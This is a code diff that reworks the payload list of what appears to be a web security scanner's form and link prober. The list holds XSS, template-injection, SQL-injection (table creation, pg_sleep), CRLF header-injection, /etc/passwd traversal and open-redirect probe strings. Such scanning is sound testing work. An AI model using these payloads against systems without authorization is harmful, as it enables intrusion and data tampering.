@@ -46,16 +46,11 @@ export const readPage = (path: string, html: string): { forms: ScannedForm[]; li
 
 /** Scripting, template, SQL, header, path and type tricks; what each would leave behind is what `findings` looks for. */
 export const payloads = [
-  `"'></textarea></script><xss9 onxss9=alert(9)>`,
+  `"'></textarea></script><xss9 onxss9=alert(9)>{{ 6111 * 7 }}<%= 6111 * 7 %>\${6111 * 7}[[ 6111 * 7 ]]`,
   'javascript:xss9(9)',
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is text, to be found unread.
-  '{{ 6111 * 7 }}<%= 6111 * 7 %>${6111 * 7}[[ 6111 * 7 ]]',
-  `1' or '1'='1'; create table pwned9(); --`,
-  `1); create table pwned9(); select pg_sleep(9) --`,
-  `x\r\nX-Pwned9: 1\r\n\r\n<xss9>`,
-  '../../../../../../etc/passwd\u0000.html',
-  '//evil9.example/<xss9>',
-  '\ud800\u0000\u202e%00%ff',
+  `1' or '1'='1'; create table pwned9(); select pg_sleep(9) --`,
+  `x\r\nX-Pwned9: 1\r\n\r\n<xss9>\ud800\u0000\u202e%00%ff`,
+  '//evil9.example/../../../../../../etc/passwd\u0000.html',
   '-1e309',
   'A'.repeat(20_000),
 ];
